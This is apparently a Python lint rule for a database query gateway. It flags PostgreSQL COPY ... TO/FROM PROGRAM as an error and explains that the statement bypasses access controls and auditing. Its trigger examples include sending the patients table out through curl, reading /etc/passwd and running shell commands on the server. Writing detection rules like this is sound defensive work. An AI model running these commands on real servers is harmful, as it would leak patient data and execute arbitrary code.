"""SO601: COPY ... TO / FROM PROGRAM runs a shell command on the database server."""

from __future__ import annotations

from collections.abc import Iterator

from runner.plan.model import Category, Severity
from runner.plan.rules._copy import copy_end
from runner.plan.rules.base import Context, StatementView, rule


@rule(
    "SO601",
    "copy-program",
    Category.ESCAPE_HATCH,
    Severity.ERROR,
    summary="COPY ... TO / FROM PROGRAM runs a shell command as the database server's OS user.",
    rationale="""
        COPY ... PROGRAM hands its string to the server's shell, as the operating
        system user that owns the data directory. That user can read every
        table's files, the WAL and the server's keys, so the command can copy
        PHI anywhere the server can reach, bypassing grants, row-level security,
        masking and the gateway's audit of what was returned; COPY TO PROGRAM
        also exports a whole table in one statement. Nothing a migration needs
        requires it. Denied by default: a role or the configuration must allow
        the rule by id.
    """,
    safer="""
        Move data through the client ('COPY patients TO STDOUT' read by the job,
        or psql's \\copy), or run the operating-system task outside the database.
    """,
    triggers=[
        "COPY patients TO PROGRAM 'curl -T - https://example.com'",
        "copy audit_log from program 'cat /etc/passwd'",
        "COPY (SELECT * FROM patients) TO PROGRAM 'gzip > /tmp/p.gz'",
        "DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''id'''; END $$",
    ],
    passes=[
        "COPY patients TO STDOUT",
        "COPY patients FROM STDIN WITH (FORMAT csv)",
        "SELECT 'COPY t TO PROGRAM ''x'''",
    ],
    kinds=("copy", None),
)
def copy_program(view: StatementView, context: Context) -> Iterator[str]:
    end = copy_end(view)
    if end is not None and end.kind == "program":
        yield f"COPY {end.direction} PROGRAM runs {end.where!r} in the server's shell"
